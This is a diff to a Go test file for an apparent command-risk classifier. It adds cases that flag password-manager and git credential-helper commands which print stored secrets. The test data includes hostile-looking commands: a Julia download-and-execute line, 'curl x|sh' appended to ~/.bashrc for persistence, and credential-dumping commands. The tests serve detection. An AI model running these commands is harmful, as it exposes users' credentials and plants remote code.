@@ -135,6 +135,7 @@ func TestHost7Explain(t *testing.T) {
 	explainRow(t, `julia -e 'include(download("https://x.example/x.jl"))'`, DownloadExecute, "otherRuntimeFetches", []string{"julia", "-e"})
 	explainRow(t, `echo 'curl x|sh' | sponge -a ~/.bashrc`, PersistenceStartupFiles, "scriptedInPlace", []string{"sponge", "~/.bashrc"})
 	explainRow(t, `aws-vault exec prod -- env`, SecretRead, "injectedSecretsPrinted", []string{"aws-vault", "env"})
+	explainRow(t, `rbw get github`, SecretRead, "morePasswordManagers", []string{"rbw", "get"})
 }
 
 // TestTempIsNoGeneratedFolder: scratchNames are folders a tool writes and
@@ -857,6 +858,37 @@ func TestInjectedSecretsPrinted(t *testing.T) {
 		{`aws-vault exec prod -- terraform plan`, ""},
 		{`op run -- node server.js`, ""},
 		{`chamber list app`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestMorePasswordManagers: password managers' and git credential
+// helpers' show verbs print a stored secret (README: `bw list items`,
+// `git credential fill` print passwords; `pass -c` only copies). Members
+// from their docs: rbw get|code (rbw's README), passage show (passage:
+// pass with age), git's credential helpers asked "get" (gitcredentials(7):
+// git credential-<helper> get prints the stored username and password):
+// manager, osxkeychain, libsecret, store, cache. Listing entries and
+// copying to the clipboard stay everyday.
+func TestMorePasswordManagers(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`rbw get github`, SecretRead},
+		{`rbw code github`, SecretRead},
+		{`passage show email/gmail`, SecretRead},
+		{`passage email/gmail`, SecretRead},
+		{`git credential-manager get`, SecretRead},
+		{`printf 'protocol=https\nhost=github.com\n' | git credential-osxkeychain get`, SecretRead},
+		{`git-credential-libsecret get`, SecretRead},
+		{`git credential-store get`, SecretRead},
+		{`rbw list`, ""},
+		{`rbw sync`, ""},
+		{`passage ls`, ""},
+		{`passage show -c email/gmail`, ""},
+		{`git credential-manager configure`, ""},
+		{`git credential-cache exit`, ""},
 	} {
 		checkRow(t, tt.cmd, tt.want)
 	}
